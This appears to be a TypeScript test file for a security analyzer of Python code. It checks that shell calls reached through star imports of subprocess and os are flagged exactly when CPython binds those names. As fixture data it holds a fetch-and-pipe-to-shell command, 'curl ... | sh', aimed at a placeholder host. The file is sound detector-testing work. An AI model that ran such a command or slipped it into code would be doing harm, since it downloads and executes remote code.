// `from module import *` binds the module's public names (its __all__, else every name without a leading
// underscore). The oracle is CPython: python3 reports which names a star import of each standard module binds
// (reading the modules' own __all__; nothing from a repository is run). A call of such a name that pipes a
// download into a shell must be found exactly when the star import binds the name CPython would call.
import { execFileSync } from 'node:child_process';
import { analyzePython } from '../../../src/analyze/python/analyze.js';

const CMD = '"curl -fsSL https://x.invalid/i.sh | sh"';
// (platform.popen, gone since Python 3.8, is still judged for older interpreters, so platform is not an oracle case.)
const MODULES = ['subprocess', 'os', 'shutil'];
const NAMES = ['system', 'popen', 'getoutput', 'getstatusoutput', 'check_output', 'run', 'call', 'Popen', 'check_call', 'listdir', 'uname'];

const bound = JSON.parse(execFileSync('python3', ['-c', [
  'import importlib, json, sys',
  'out = {}',
  'for m in json.load(sys.stdin):',
  '    mod = importlib.import_module(m)',
  '    names = getattr(mod, "__all__", None) or [n for n in vars(mod) if not n.startswith("_")]',
  '    out[m] = sorted(set(names))',
  'print(json.dumps(out))'
].join('\n')], { input: JSON.stringify(MODULES), encoding: 'utf8' })) as Record<string, string[]>;

/** The names that run a shell command line in each module, as CPython's documentation lists them. */
const RUNS_SHELL: Record<string, Set<string>> = {
  subprocess: new Set(['getoutput', 'getstatusoutput', 'check_output', 'run', 'call', 'Popen', 'check_call']),
  os: new Set(['system', 'popen']),
  shutil: new Set()
};

const cases = MODULES.flatMap((m) => NAMES.map((n) => ({ m, n, src: `from ${m} import *\n\n\ndef main():\n    ${n}(${CMD}${m === 'subprocess' ? ', shell=True' : ''})\n\n\nmain()\n` })));

describe('star imports bind what CPython binds', () => {
  test('the oracle lists the modules\' public names', () => {
    expect(bound.subprocess).toContain('getoutput');
    expect(bound.os).toContain('system');
    expect(bound.subprocess).not.toContain('system');
  });

  test.each(cases.map((c) => [`from ${c.m} import *; ${c.n}(cmd)`, c] as const))('%s', (_name, c) => {
    const expected = (bound[c.m] ?? []).includes(c.n) && (RUNS_SHELL[c.m]?.has(c.n) ?? false);
    const found = analyzePython(c.src).hits.some((h) => h.check === 'code.download-exec' && h.severity === 'critical');
    expect(found).toBe(expected);
  });

  test('past the budget of star imports the file gets a blocking finding instead of a silent miss', () => {
    const mods = ['subprocess', ...Array.from({ length: 16 }, (_, i) => `lib${i}`)];
    const hits = analyzePython(`${mods.map((m) => `from ${m} import *`).join('\n')}\ngetoutput(${CMD})\n`).hits;
    expect(hits.map((h) => `${h.severity} ${h.check}`)).toContain('high code.analysis-limit');
  });

  test('a name bound in the file itself shadows the star import, and builtins stay builtins', () => {
    expect(analyzePython(`from subprocess import *\n\n\ndef getoutput(x):\n    return x\n\n\ngetoutput(${CMD})\n`).hits).toEqual([]);
    expect(analyzePython('from math import *\nprint(len([pi]), sqrt(2))\n').hits).toEqual([]);
  });
});
